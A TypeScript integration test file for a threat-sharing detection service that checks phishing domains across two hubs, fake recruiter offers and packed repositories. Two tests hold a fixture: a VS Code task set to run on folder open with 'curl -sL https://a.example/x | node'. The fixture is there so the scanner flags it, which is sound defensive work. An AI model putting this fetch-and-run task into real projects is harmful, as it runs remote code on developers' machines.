/** Detection across hubs: what is said of a site at one protects at the other, and goes no further than it may. */
import assert from 'node:assert/strict';
import { createHash, randomUUID } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { IndicatorValue, SiteCheck } from '@haetae/contract';
import type { Tlp } from '@haetae/stix/marking';
import { type Call, newMember, pair, quickest, startTestHub, type TestHub, until } from './alliance.ts';
import { add, anySite, indicator, newVersion } from './claims.ts';
import { tarOf } from './tar-of.ts';

let kr: TestHub;
let eu: TestHub;
let alliance: string;
let krOrganisation: string;

before(async () => {
  [kr, eu] = await Promise.all([startTestHub('KR'), startTestHub('EU')]);
  await pair([kr, eu]);
  krOrganisation = (await kr.call('GET', '/api/v1/me')).body.organisation.id;
  const { body } = await kr.call('GET', '/api/v1/alliance');
  alliance = body.agreements[0].alias;
});
after(() => Promise.all([kr?.stop(), eu?.stop()]));

const said = (site: string, tlp: Tlp, more: object = {}) =>
  indicator('', krOrganisation, tlp, {
    pattern: `[domain-name:value = '${site}']`,
    name: 'Poses as a wallet',
    labels: ['phishing'],
    ...more,
  });

async function check(call: Call, site: string): Promise<SiteCheck> {
  const answer = await call('POST', '/api/v1/detection/check', { sites: [site] });
  return answer.body.results?.[0] ?? answer.body;
}

async function valuesAt(call: Call): Promise<IndicatorValue[]> {
  const { body } = await call('GET', '/api/v1/detection/indicators');
  return (body as string)
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));
}

test('a site named at KR is among what EU’s tools are given, with who said it', async () => {
  const site = anySite();
  const object = said(site, 'green');
  assert.equal((await add(kr.call, alliance, [object])).status, 202);
  await until(
    () => valuesAt(eu.call),
    (values) => values.some(({ value }) => value === site),
  );
  const found = (await valuesAt(eu.call)).find(({ value }) => value === site);
  assert.equal(found?.indicator, object.id);
  assert.equal(found?.category, 'phishing');
  assert.equal(found?.submitter.id, krOrganisation);
});

test('a site shared at KR blocks at EU within a second, saying who said it', async () => {
  let site = '';
  let object = said(anySite(), 'green');
  const took = await quickest(1_000, async () => {
    site = anySite();
    object = said(site, 'green');
    const start = performance.now();
    assert.equal((await add(kr.call, alliance, [object])).status, 202);
    await until(
      () => check(eu.call, `https://login.${site}/claim`),
      ({ verdict }) => verdict === 'block',
    );
    return performance.now() - start;
  });
  assert.ok(took < 1_000, `${took} ms`);
  const [reason] = (await check(eu.call, site)).reasons;
  assert.equal(reason?.object, object.id);
  assert.equal(reason?.organisation?.id, krOrganisation);
  assert.equal(reason?.confidence, 80);
  assert.equal(reason?.tlp, 'green');
});

test('what a caller may not see answers exactly as what nobody said', async () => {
  const stranger = await newMember(kr, { name: 'Somebody else' }, ['reader']);
  const site = anySite();
  const absent = await check(stranger.call, site);
  await add(kr.call, 'default', [said(site, 'amber')]);
  assert.equal((await check(kr.call, site)).verdict, 'block');
  assert.deepEqual(await check(stranger.call, site), absent);
});

test('TLP:RED weighs in no check, not even its author’s', async () => {
  const site = anySite();
  await add(kr.call, 'default', [said(site, 'red')]);
  assert.equal((await check(kr.call, site)).verdict, 'clear');
});

describe('what is said of a site that is its owner’s is held until a person decides', () => {
  test('a brand’s own site that the product knows stays clear, and the answer says why', async () => {
    await add(kr.call, alliance, [said('metamask.io', 'green')]);
    await until(
      () => check(eu.call, 'https://metamask.io/'),
      ({ reasons }) => reasons.some(({ rule }) => rule === 'said-and-held'),
    );
    const answer = await check(eu.call, 'https://metamask.io/');
    assert.equal(answer.verdict, 'clear');
    assert.equal(answer.protected?.by, 'built-in');
  });

  test('a member’s own site is protected once an admin who did not declare it has confirmed it', async () => {
    const site = anySite();
    await add(kr.call, 'default', [said(site, 'green')]);
    const owner = await newMember(kr, { name: 'An exchange', kind: 'service' }, ['contributor']);
    const declaration = { site, evidence: 'TXT record at the name' };
    assert.equal((await owner.call('POST', '/api/v1/detection/protected-sites', declaration)).status, 201);
    assert.equal((await check(kr.call, site)).verdict, 'block');
    assert.equal((await kr.call('POST', `/api/v1/detection/protected-sites/${site}/confirm`)).status, 200);
    assert.equal((await check(kr.call, `www.${site}`)).verdict, 'clear');
    const decision = { site, counts: true, reason: 'The name was taken over.' };
    assert.equal((await kr.call('POST', '/api/v1/detection/site-decisions', decision)).status, 201);
    assert.equal((await check(kr.call, site)).verdict, 'block');
  });

  test('nobody confirms what they declared', async () => {
    const site = anySite();
    await kr.call('POST', '/api/v1/detection/protected-sites', { site, evidence: 'mine' });
    assert.equal((await kr.call('POST', `/api/v1/detection/protected-sites/${site}/confirm`)).status, 409);
  });

  test('one page that a stranger put on a protected site blocks by itself', async () => {
    const page = `https://metamask.io/${randomUUID()}`;
    await add(kr.call, 'default', [said('', 'green', { pattern: `[url:value = '${page}']` })]);
    assert.equal((await check(kr.call, page)).verdict, 'block');
    assert.equal((await check(kr.call, 'metamask.io')).verdict, 'clear');
  });

  test('nobody owns a name under which strangers register', async () => {
    const answer = await kr.call('POST', '/api/v1/detection/protected-sites', { site: 'co.kr', evidence: 'all' });
    assert.equal(answer.status, 422);
  });
});

test('what is revoked or over is given no more, and the tag of the stream says that something changed', async () => {
  const [revoked, over] = [anySite(), anySite()];
  const object = said(revoked, 'green');
  await add(kr.call, alliance, [
    object,
    said(over, 'green', { valid_from: '2020-01-01T00:00:00Z', valid_until: '2021-01-01T00:00:00Z' }),
  ]);
  const before = await kr.call('GET', '/api/v1/detection/indicators');
  assert.match(before.body, new RegExp(revoked));
  assert.doesNotMatch(before.body, new RegExp(over));
  const tag = { 'if-none-match': before.headers.get('etag')! };
  assert.equal((await kr.call('GET', '/api/v1/detection/indicators', undefined, tag)).status, 304);
  await add(kr.call, alliance, [newVersion(object, { revoked: true })]);
  const after = await kr.call('GET', '/api/v1/detection/indicators', undefined, tag);
  assert.equal(after.status, 200);
  assert.doesNotMatch(after.body, new RegExp(revoked));
});

describe('a job offer is checked with what the alliance says of where it leads', () => {
  const offer = (site: string) =>
    `Hi, I am a recruiter at Coinbase. Please clone https://${site}/test and run npm install before our call, today!`;

  test('a link to a site that was shared at KR is a strong sign at EU, and the site is named', async () => {
    const site = anySite();
    await add(kr.call, alliance, [said(site, 'green')]);
    await until(
      () => check(eu.call, site),
      ({ verdict }) => verdict === 'block',
    );
    const answer = await eu.call('POST', '/api/v1/detection/check/offer', offer(site), {
      'content-type': 'text/plain',
    });
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    assert.equal(answer.body.strongest, 'strong');
    assert.ok(answer.body.signals.some(({ rule }: { rule: string }) => rule === 'listed-domain'));
    assert.equal(answer.body.links[0].domain, site);
  });

  test('what a mail brings along is looked into, and nothing of it is run', async () => {
    const task = {
      label: 'a',
      type: 'shell',
      command: 'curl -sL https://a.example/x | node',
      runOptions: { runOn: 'folderOpen' },
    };
    const packed = gzipSync(tarOf({ 'test/.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks: [task] }) }));
    const mail = [
      'From: Recruiter <hr@garden.example>',
      'To: me@example.org',
      'Subject: Your test',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      'Please look at the project.',
      '--b',
      'Content-Type: application/gzip; name="test.tgz"',
      'Content-Disposition: attachment; filename="test.tgz"',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(packed).toString('base64').replace(/.{76}/g, '$&\r\n'),
      '--b--',
      '',
    ].join('\r\n');
    const { status, body } = await kr.call('POST', '/api/v1/detection/check/offer', mail, {
      'content-type': 'message/rfc822',
    });
    assert.equal(status, 200, JSON.stringify(body));
    assert.ok(
      body.signals.some(({ rule }: { rule: string }) => rule === 'hostile-attachment'),
      JSON.stringify(body.signals),
    );
  });

  test('what is no text is told to be none', async () => {
    const bytes = new Uint8Array([0xff, 0xfe, 0, 0, 1, 2, 3]);
    const answer = await kr.call('POST', '/api/v1/detection/check/offer', bytes);
    assert.equal(answer.status, 422);
    assert.equal(answer.body.errors[0].code, 'not_text');
  });
});

describe('an application is checked by its facts', () => {
  const ask = (facts: object) => kr.call('POST', '/api/v1/detection/check/applicant', facts);

  test('facts that do not fit are signs with a question, and no verdict stands anywhere in the answer', async () => {
    const { status, body } = await ask({
      delivery: { address: 'Street 1', documentAddress: 'Street 2', redirected: '2026-11-23T09:00:00Z' },
      pay: { to: 'other-person' },
    });
    assert.equal(status, 200, JSON.stringify(body));
    assert.ok(body.signals.some(({ rule }: { rule: string }) => rule === 'pay-elsewhere'));
    assert.equal(body.rows.length, 42);
    assert.equal(body.step.ready, false);
    assert.doesNotMatch(Object.keys(body).join(), /verdict|score|rank/);
  });

  test('a field about who somebody is is refused, with the place and what to write instead', async () => {
    const { status, body } = await ask({ nationality: 'any' });
    assert.equal(status, 422);
    assert.equal(body.errors[0].code, 'never_an_input');
  });
});

describe('a repository is looked at while it is still packed', () => {
  const look = (call: Call, files: Record<string, string>) =>
    call('POST', '/api/v1/detection/check/repository', gzipSync(tarOf(files)));

  test('one that starts a download when an editor opens it is not to be opened, and the place is named', async () => {
    const task = {
      label: 'lint',
      type: 'shell',
      command: 'curl -sL https://a.example/x | node',
      runOptions: { runOn: 'folderOpen' },
    };
    const { status, body } = await look(kr.call, {
      'test/package.json': '{"name":"test"}',
      'test/.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks: [task] }, null, 1),
    });
    assert.equal(status, 200, JSON.stringify(body));
    assert.equal(body.verdict, 'malicious');
    assert.match(body.findings[0].file, /tasks\.json$/);
    assert.doesNotMatch(JSON.stringify(body.findings), /https:\/\/a\.example/);
  });

  test('a file that KR knows by its hash is found at EU', async () => {
    const content = `module.exports = '${randomUUID()}';\n`;
    const hash = createHash('sha256').update(content).digest('hex');
    const object = said('', 'green', { pattern: `[file:hashes.'SHA-256' = '${hash}']`, labels: ['malware'] });
    await add(kr.call, alliance, [object]);
    await until(
      () => valuesAt(eu.call),
      (values) => values.some(({ value }) => value === hash),
    );
    const { body } = await look(eu.call, { 'a/index.js': content });
    assert.equal(body.verdict, 'malicious');
    assert.equal(body.findings[0].rule, 'known-file');
    assert.equal(body.marking, 'green');
    assert.match(body.findings[0].advice, new RegExp(object.id));
  });

  test('an honest one has no finding, which is not a proof', async () => {
    const { body } = await look(kr.call, { 'a/package.json': '{"name":"a"}', 'a/index.js': 'export const a = 1;\n' });
    assert.equal(body.verdict, 'clean');
    assert.equal(body.files, 2);
  });

  test('what is no archive is told to be none', async () => {
    const answer = await kr.call('POST', '/api/v1/detection/check/repository', 'hello', {
      'content-type': 'application/zip',
    });
    assert.equal(answer.status, 422);
    assert.equal(answer.body.errors[0].code, 'no_archive');
  });
});
